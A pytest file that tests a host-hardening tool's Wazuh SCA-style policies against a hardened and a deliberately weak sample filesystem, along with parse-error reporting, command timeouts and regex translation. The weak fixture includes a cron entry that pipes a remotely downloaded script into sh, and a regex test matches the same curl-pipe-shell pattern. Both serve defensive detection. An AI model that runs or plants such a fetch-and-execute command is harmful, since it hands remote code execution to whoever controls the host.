"""The Wazuh SCA-syntax test policies (tests/samples/sca, written for hostward) parse and run on two
prepared trees, every check giving its expected result; broken policy files are reported with file,
line and column while the others still run; a hanging command is killed by the timeout."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from hostward.agent.baseline import HostView, build_sample_tree, load_policies, run_baseline, run_policy
from hostward.agent.baseline.osregex import compile_osmatch, compile_osregex, translate_osregex

SCA = Path(__file__).resolve().parents[1] / "samples" / "sca"

HARDENED = {
    "dirs": ["/var/spool/cron"],
    "files": {
        "/etc/ssh/sshd_config": (
            "# hardened\nPort 2222\nPermitRootLogin no\nMaxAuthTries 3\nProtocol 2\nX11Forwarding no\n"
            "Ciphers aes256-ctr,aes128-ctr\n"
        ),
        "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        "/etc/login.defs": "PASS_MAX_DAYS 90\nPASS_MIN_DAYS 1\nPASS_WARN_AGE 7\n",
        "/etc/cron.d/backup": "0 1 * * * root /usr/local/bin/backup --all\n",
        "/proc/10/comm": "sshd\n",
        "/proc/10/cmdline": "/usr/sbin/sshd\0-D\0",
    },
}
WEAK = {
    "dirs": ["/var/spool/cron"],
    "files": {
        "/etc/ssh/sshd_config": (
            "Port 22\nPermitRootLogin yes\nMaxAuthTries 10\nX11Forwarding yes\n"
            "Ciphers aes128-cbc,aes256-ctr\n"
        ),
        "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n",
        "/etc/login.defs": "PASS_MAX_DAYS 99999\nPASS_MIN_DAYS 0\nPASS_WARN_AGE 3\n",
        "/etc/hosts.equiv": "+\n",
        "/etc/cron.d/backup": "*/5 * * * * root curl -s http://203.0.113.9/x.sh | sh\n",
        "/proc/77/comm": "telnetd\n",
        "/proc/78/comm": "in.telnetd\n",
    },
}
P, F, NA = "passed", "failed", "not_applicable"
EXPECTED = {
    "hw_test_ssh_audit": {
        "9100": (P, F),
        "9101": (P, F),
        "9102": (P, F),
        "9103": (P, F),
        "9104": (P, F),
        "9105": (P, F),
        "9106": (P, F),
        "9107": (P, F),
        "9108": (NA, NA),
        "9109": (P, F),
        "9110": (P, NA),
    },
    "hw_test_system_audit": {
        "9200": (P, P),
        "9201": (P, F),
        "9202": (P, P),
        "9203": (P, F),
        "9204": (P, F),
        "9205": (P, P),
        "9206": (P, P),
        "9207": (P, P),
        "9208": (NA, NA),
        "9209": (P, F),
        "9210": (P, P),
    },
    "hw_test_pcre2_audit": {
        "9300": (P, F),
        "9301": (P, P),
        "9302": (NA, NA),
        "9303": (NA, NA),
        "9304": (P, F),
        "9305": (NA, F),
    },
}


@pytest.fixture(scope="module")
def trees(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = {}
    for name, sample in (("hardened", HARDENED), ("weak", WEAK)):
        root = tmp_path_factory.mktemp(name)
        build_sample_tree(root, sample)
        (root / "etc/ssh").mkdir(parents=True, exist_ok=True)
        out[name] = root
    return out


def test_three_sca_policies_parse() -> None:
    policies, errors = load_policies([SCA])
    assert errors == []
    assert {p.id for p in policies} == set(EXPECTED)
    assert all(p.syntax == "sca" for p in policies)
    by_id = {p.id: p for p in policies}
    assert [c.id for c in by_id["hw_test_ssh_audit"].checks] == list(EXPECTED["hw_test_ssh_audit"])
    assert by_id["hw_test_ssh_audit"].checks[0].compliance == {"cis": ["5.2.1"]}


@pytest.mark.parametrize("tree", ["hardened", "weak"])
def test_sca_policies_give_expected_results(trees: dict[str, Path], tree: str) -> None:
    policies, _ = load_policies([SCA])
    column = 0 if tree == "hardened" else 1
    host = HostView(root=trees[tree], command_timeout=1.0)
    for policy in policies:
        run = run_policy(policy, host)
        got = {r.check_id: r.result for r in run.results}
        want = {cid: exp[column] for cid, exp in EXPECTED[policy.id].items()}
        assert got == want, {r.check_id: r.reason for r in run.results if got[r.check_id] != want[r.check_id]}


def test_requirements_unmet_make_every_check_not_applicable(tmp_path: Path) -> None:
    policies, _ = load_policies([SCA / "hw_test_ssh_audit.yml"])
    run = run_policy(policies[0], HostView(root=tmp_path))
    assert run.requirements_met is False
    assert {r.result for r in run.results} == {NA}
    assert "requirements not met" in run.results[0].reason


def test_hanging_command_times_out_as_not_applicable(trees: dict[str, Path]) -> None:
    policies, _ = load_policies([SCA / "hw_test_pcre2_audit.yml"])
    started = time.monotonic()
    run = run_policy(policies[0], HostView(root=trees["hardened"], command_timeout=1.0))
    elapsed = time.monotonic() - started
    result = next(r for r in run.results if r.check_id == "9302")
    assert result.result == NA
    assert "timed out after 1 s" in result.reason
    assert elapsed < 5, elapsed
    missing = next(r for r in run.results if r.check_id == "9303")
    assert "cannot run" in missing.reason


BAD = {
    "yaml_syntax.yml": (6, 12, "YAML syntax error"),
    "unknown_rule_type.yml": (15, 9, "unknown rule type 'x'"),
    "numeric_without_compare.yml": (9, 9, "compare OP NUMBER"),
    "duplicate_id.yml": (9, 9, "duplicate check id 7"),
    "bad_condition.yml": (7, 16, "condition must be one of all, any, none"),
}


def test_broken_policies_are_reported_with_position_and_the_others_run(trees: dict[str, Path]) -> None:
    report = run_baseline([SCA, SCA / "bad"], root=trees["hardened"], command_timeout=1.0)
    assert {run.policy_id for run in report.runs} == set(EXPECTED)
    errors = {Path(e.file).name: e for e in report.errors}
    assert set(errors) == set(BAD)
    for name, (line, column, text) in BAD.items():
        err = errors[name]
        assert (err.line, err.column) == (line, column), str(err)
        assert text in err.message, str(err)
        assert str(err).startswith(f"{SCA / 'bad' / name}:{line}:{column}: ")


@pytest.mark.parametrize(
    ("pattern", "line", "hit"),
    [
        (r"^\s*PermitRootLogin\s+no", "PermitRootLogin no", True),
        (r"^\s*PermitRootLogin\s+no", "permitrootlogin   no", True),  # OS_Regex ignores case
        (r"^\s*PermitRootLogin\s+no", "#PermitRootLogin no", False),
        (r"\s+22$", "Port 22", True),
        (r"\s+22$", "Port 2222", False),
        (r"1.0", "1x0", False),  # a bare dot is a literal dot
        (r"1\.0", "1x0", True),  # \. is any character
        (r"^\w+:\w+:0:", "toor:x:0:0::/root:/bin/sh", True),
        (r"^\w+:\w+:0:", "alice:x:1000:1000::", False),
        (r"a|^b$", "b", True),
        (r"\(x\)", "(x)", True),
        (r"curl\.+\|\s*sh", "curl http://x | sh", True),
        (r"\p", "a;b", True),
        (r"\t", "a\tb", True),
        (r"\s", "a\tb", False),  # \s is a space only
    ],
)
def test_osregex(pattern: str, line: str, hit: bool) -> None:
    assert (compile_osregex(pattern).search(line) is not None) is hit, translate_osregex(pattern)


def test_osmatch() -> None:
    assert compile_osmatch("backup").search("daily-backup")
    assert compile_osmatch("^backup$").search("BACKUP")
    assert not compile_osmatch("^backup$").search("backup.sh")
    assert compile_osmatch("^a$|^b").search("bc")
